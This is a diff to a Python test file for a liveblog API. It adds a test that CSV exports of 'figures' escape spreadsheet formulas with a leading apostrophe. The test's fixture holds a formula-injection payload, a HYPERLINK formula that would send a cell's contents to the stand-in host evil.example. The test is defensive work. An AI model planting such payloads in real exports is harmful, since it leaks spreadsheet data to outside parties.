@@ -1,5 +1,8 @@
 """Figures over the API: set, told to those who follow, listed, read as data and as a table, taken away."""
 
+import csv
+from io import StringIO
+
 import pytest
 
 from liveblog_client import Client
@@ -44,6 +47,19 @@ async def test_a_figure_is_told_on_every_door(shared_app: LiveApp):
     assert [each["value"] for each in gone.json()["figures"]] == ["35"]
     refused = await shared_app.http.delete(there, headers=writes)
     assert (refused.status_code, refused.json()["code"]) == (409, "conflict")
+
+
+async def test_no_cell_of_a_table_is_a_formula(shared_app: LiveApp):
+    """What a sheet would run, in any text of a figure, has an apostrophe before it; numbers stay numbers."""
+    blog, writes = await shared_app.blog(), shared_app.bearer("write")
+    there = f"/api/v1{blog.path}/figures/Level"
+    formula = '=HYPERLINK("https://evil.example/?"&A1)'
+    parts = [{"label": "@a", "value": "-3"}, {"label": "b", "value": "1"}]
+    said = {"value": "-3.5", "unit": "+m", "source": formula, "parts": parts}
+    assert (await shared_app.http.put(there, json=said, headers=writes)).status_code == 200
+    table = await shared_app.http.get(f"{blog.path}/figures/Level.csv")
+    _, (_, *cells) = csv.reader(StringIO(table.text))
+    assert cells == ["-3.5", "'+m", "-3.5", f"'{formula}", "", "", "'@a=-3;b=1"]
 
 
 @pytest.mark.parametrize(
